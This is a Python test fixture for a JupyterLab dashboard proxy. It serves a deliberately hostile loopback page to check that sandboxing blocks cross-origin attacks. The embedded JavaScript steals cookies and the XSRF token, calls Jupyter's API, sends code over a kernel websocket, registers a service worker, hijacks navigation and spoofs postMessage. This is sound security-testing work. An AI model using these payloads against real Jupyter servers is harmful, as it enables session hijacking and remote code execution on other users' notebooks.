"""A hostile "dashboard" on a loopback port, as another user of a shared login node could run one.

It lists one plot, ``/individual-evil``, whose page tries everything a page in the Lab's origin
could do with the user's session: read Jupyter's cookies and storage, call Jupyter's API, create a
kernel, write a file, run code in a running kernel over its websocket, reach into the Lab window,
navigate it, and register a service worker over the whole server. It writes what happened to
``window.__attacks`` (the test reads that through the browser's debugging protocol, which a
sandbox does not stop) and sets ``window.__attacksDone``.
"""

from __future__ import annotations

import hashlib
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from dashdock.proxy.bokehjs.serve import local_js_dir

ATTACKS = """
const BASE = %(base)s, KERNEL = %(kernel)s;
const attacks = (window.__attacks = {origin: String(window.origin)});
const blocked = error => 'blocked: ' + (error && error.name);
function attempt(name, action) {
  try { attacks[name] = action(); } catch (error) { attacks[name] = blocked(error); }
}
async function attemptAsync(name, action) {
  try { attacks[name] = await action(); } catch (error) { attacks[name] = blocked(error); }
}
attempt('cookie', () => document.cookie);
attempt('storage', () => { localStorage.setItem('dashdock-evil', '1'); return 'written'; });
attempt('labDocument', () => window.parent.document.title);
attempt('topDocument', () => window.top.document.title);
attempt('labWindow', () => { window.top.__pwned = 1; return 'written'; });
(async () => {
  let xsrf = '';
  try { xsrf = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || ''; } catch (error) { /* sandboxed */ }
  const jupyter = {credentials: 'include', headers: {'X-XSRFToken': xsrf}};
  await attemptAsync('contents', async () => (await fetch(BASE + 'api/contents', jupyter)).status);
  await attemptAsync('createKernel', async () =>
    (await fetch(BASE + 'api/kernels', {...jupyter, method: 'POST', body: '{}'})).status);
  // A "simple" request needs no preflight; only the server can refuse it.
  await attemptAsync('writeFile', async () => {
    const body = JSON.stringify({type: 'file', ext: '.txt'});
    await fetch(BASE + 'api/contents', {method: 'POST', mode: 'no-cors', credentials: 'include', body});
    return 'sent';
  });
  await attemptAsync('kernelSocket', () => new Promise(resolve => {
    const socket = new WebSocket(
      (location.protocol === 'https:' ? 'wss://' : 'ws://') + location.host + BASE +
      'api/kernels/' + KERNEL + '/channels');
    socket.onopen = () => {
      socket.send(JSON.stringify({
        header: {msg_id: 'evil', username: 'evil', session: 'evil', msg_type: 'execute_request',
                 version: '5.3', date: new Date().toISOString()},
        parent_header: {}, metadata: {}, channel: 'shell', buffers: [],
        content: {code: "open('pwned-by-kernel.txt', 'w').write('pwned')", silent: false,
                  store_history: false, user_expressions: {}, allow_stdin: false, stop_on_error: true}
      }));
      setTimeout(() => resolve('sent code'), 1500);
    };
    socket.onerror = () => resolve('refused');
    setTimeout(() => resolve('no answer'), 8000);
  }));
  await attemptAsync('serviceWorker', async () => {
    const registration = await navigator.serviceWorker.register('sw.js', {scope: BASE});
    return 'registered ' + registration.scope;
  });
  if (window.top !== window) {
    attempt('navigateLab', () => { window.top.location.href = BASE + 'tree?pwned'; return 'attempted'; });
  }
  window.__attacksDone = true;
})();
"""
EVIL_PAGE = (
    '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Evil plot</title></head>'
    "<body><h1>Nothing to see</h1><script>" + ATTACKS + "</script></body></html>"
)


# The same attacks from a page shaped like a Bokeh server's, linking the BokehJS installed here: a
# Lab pane may show it in a spare frame that ran BokehJS before (panes/spares.ts), not by loading
# it. It also calls itself a ready spare, hoping the Lab hands it the next plot's page.
EVIL_BOKEH_PAGE = (
    '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Evil Bokeh plot</title>'
    '<script src="static/js/bokeh.min.js?v=%(bokeh_version)s"></script></head>'
    "<body><h1>Nothing to see</h1><script>"
    "window.parent.postMessage({type: 'dashdock:spare-ready'}, '*');" + ATTACKS + "</script></body></html>"
)


def local_bokehjs_version() -> str:
    """The sha512 that a page links the BokehJS installed here by."""
    js_dir = local_js_dir()
    assert js_dir is not None
    return hashlib.sha512((js_dir / "bokeh.min.js").read_bytes()).hexdigest()


def attack_values(base_url: str, kernel: str) -> dict[str, str]:
    """What the attacks aim at: the Lab's base URL and one of the user's kernels."""
    return {"base": json.dumps(base_url), "kernel": json.dumps(kernel)}


SERVICE_WORKER = "self.addEventListener('fetch', event => event.respondWith(new Response('pwned')));"


class HostileDashboard:
    """Serves the evil page (for a Lab at ``base_url``, aiming at ``kernel``) on 127.0.0.1."""

    def __init__(self, base_url: str, kernel: str) -> None:
        self.requests: list[tuple[str, dict[str, str]]] = []
        page = EVIL_PAGE % attack_values(base_url, kernel)
        bokeh_page = EVIL_BOKEH_PAGE % {
            **attack_values(base_url, kernel),
            "bokeh_version": local_bokehjs_version(),
        }
        dashboard = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                dashboard.requests.append((self.path, dict(self.headers.items())))
                path = self.path.split("?", 1)[0]
                if path == "/individual-plots.json":
                    self._send("application/json", json.dumps({"Individual Evil": "/individual-evil"}))
                elif path == "/health":
                    self._send("text/plain", "ok")
                elif path == "/individual-evil":
                    self._send("text/html; charset=utf-8", page)
                elif path == "/individual-evil-bokeh":
                    self._send("text/html; charset=utf-8", bokeh_page)
                elif path.endswith("/sw.js"):
                    self._send("text/javascript", SERVICE_WORKER, {"Service-Worker-Allowed": "/"})
                else:
                    self.send_error(404)

            def _send(self, content_type: str, body: str, extra: dict[str, str] | None = None) -> None:
                data = body.encode()
                self.send_response(200)
                self.send_header("Content-Type", content_type)
                self.send_header("Content-Length", str(len(data)))
                # What a hostile server would add to widen its reach, were headers passed through.
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Access-Control-Allow-Credentials", "true")
                for name, value in (extra or {}).items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *args: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


class Listener:
    """Where a script in a page would send what it read: a loopback port that writes down each
    request it gets (method and path), and answers with a small page."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        heard = self.requests

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<html><body>listener</body></html>")

            do_POST = do_GET  # sendBeacon posts

            def log_message(self, *args: object) -> None:
                return

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
